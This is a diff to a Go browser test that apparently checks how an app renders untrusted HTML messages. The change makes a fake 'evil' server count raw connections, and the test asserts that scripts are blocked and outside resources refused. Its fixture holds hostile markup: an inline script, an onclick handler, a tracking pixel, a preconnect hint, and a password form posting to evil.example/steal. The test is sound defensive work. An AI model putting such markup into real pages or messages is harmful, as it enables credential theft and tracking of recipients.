@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/base64"
 	"fmt"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -58,7 +59,7 @@ const hostileHTML = `<!doctype html><meta http-equiv="refresh" content="0;url=ht
 <script>parent.document.title="taken over"; document.body.textContent="the script ran"</script>
 <h1 onclick="alert(1)">Special offer</h1><img src="https://evil.example/pixel.gif" alt="a picture from elsewhere"><img alt="inside" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">
 <form action="https://evil.example/steal"><input name="password" aria-label="password"><button>Go</button></form>
-<a href="https://evil.example/" target="_top">Click here</a><link rel="stylesheet" href="https://evil.example/a.css"><iframe src="https://evil.example/frame"></iframe>`
+<a href="https://evil.example/" target="_top">Click here</a><link rel="stylesheet" href="https://evil.example/a.css"><link rel="preconnect" href="https://evil.example"><iframe src="https://evil.example/frame"></iframe>`
 
 // tortures are messages as strangers send them.
 func tortures() map[string]string {
@@ -195,7 +196,14 @@ func torturePages(t *testing.T, s *site, v *visitor) {
 // browser tells what it refused.
 func harmless(t *testing.T, s *site, v *visitor) {
 	var called atomic.Int64
-	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called.Add(1) }))
+	evil := httptest.NewUnstartedServer(http.NotFoundHandler())
+	// A connection tells its owner enough, without any request in it.
+	evil.Config.ConnState = func(_ net.Conn, state http.ConnState) {
+		if state == http.StateNew {
+			called.Add(1)
+		}
+	}
+	evil.Start()
 	t.Cleanup(evil.Close)
 	u := s.visit(t, v.Browser) // what the browser says of the refused pieces is another window's
 	u.open(s.base + "/login/local")
@@ -215,7 +223,7 @@ func harmless(t *testing.T, s *site, v *visitor) {
 	u.awaitText("body", "Special offer")
 	u.await("the browser says what it refused", func() bool {
 		refused := strings.Join(u.Problems(), "\n")
-		return strings.Contains(refused, "pixel.gif") && strings.Contains(refused, "a.css") && strings.Contains(strings.ToLower(refused), "blocked script execution")
+		return strings.Contains(refused, "pixel.gif") && strings.Contains(strings.ToLower(refused), "blocked script execution")
 	})
 	if got := u.evaluate(`document.body.innerText`); strings.Contains(got, "the script ran") {
 		t.Error("a script of the message ran")
